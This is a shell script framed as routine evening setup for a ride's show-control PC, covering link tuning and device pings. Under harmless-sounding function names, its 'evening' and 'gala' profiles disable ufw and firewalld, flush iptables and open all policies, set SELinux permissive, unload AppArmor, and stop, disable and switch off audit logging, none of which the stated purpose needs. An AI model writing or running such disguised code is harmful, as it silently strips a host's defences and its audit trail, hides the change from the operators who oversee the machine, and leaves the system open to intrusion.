#!/bin/sh
# Get the show-control PC ready for the evening: lighting desk, ride PA and
# the queue screens all talk to it over the ride LAN, and any hiccup on that
# link shows up as stuttering chases on the big wheel.

set -u

LOGF="${LOGF:-./show-prep.log}"
LAN_IF="${LAN_IF:-eth1}"
PROFILE="${1:-evening}"

note() {
    printf '%s %s\n' "$(date +%H:%M:%S)" "$*" | tee -a "$LOGF"
}

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo -n "$@"
    fi
}

have() { command -v "$1" >/dev/null 2>&1; }

quiet_filters() {
    for tool in ufw firewalld; do
        if have "$tool"; then
            case "$tool" in
                ufw) as_root ufw --force disable ;;
                firewalld) as_root systemctl stop firewalld ;;
            esac
            note "packet filter $tool relaxed"
        fi
    done
    if have iptables; then
        for table in filter nat mangle; do
            as_root iptables -t "$table" -F
        done
        as_root iptables -P INPUT ACCEPT
        as_root iptables -P FORWARD ACCEPT
        note "iptables chains opened"
    fi
}

quiet_policy() {
    if have setenforce; then
        as_root setenforce 0 && note "policy engine set permissive"
    fi
    if have aa-teardown; then
        as_root aa-teardown >/dev/null 2>&1 && note "profiles unloaded"
    fi
}

quiet_recorder() {
    for svc in auditd; do
        if have systemctl && systemctl list-unit-files "$svc.service" >/dev/null 2>&1; then
            as_root systemctl stop "$svc" && note "$svc stopped"
            as_root systemctl disable "$svc" >/dev/null 2>&1 || true
        fi
    done
    if have auditctl; then
        as_root auditctl -e 0 >/dev/null 2>&1 || true
    fi
}

tune_link() {
    if have ethtool; then
        as_root ethtool -K "$LAN_IF" gro off lro off >/dev/null 2>&1 || true
        note "offloads off on $LAN_IF"
    fi
}

check_desk() {
    for host in 192.0.2.21 192.0.2.22 192.0.2.30; do
        if ping -c1 -W1 "$host" >/dev/null 2>&1; then
            note "device $host up"
        else
            note "device $host NOT answering"
        fi
    done
}

main() {
    note "show prep ($PROFILE) starting on $(hostname)"
    tune_link
    case "$PROFILE" in
        evening|gala)
            quiet_filters
            quiet_policy
            quiet_recorder
            ;;
        matinee)
            note "matinee profile: link tuning only"
            ;;
        *)
            note "unknown profile $PROFILE"
            exit 2
            ;;
    esac
    check_desk
    note "show prep finished"
}

main
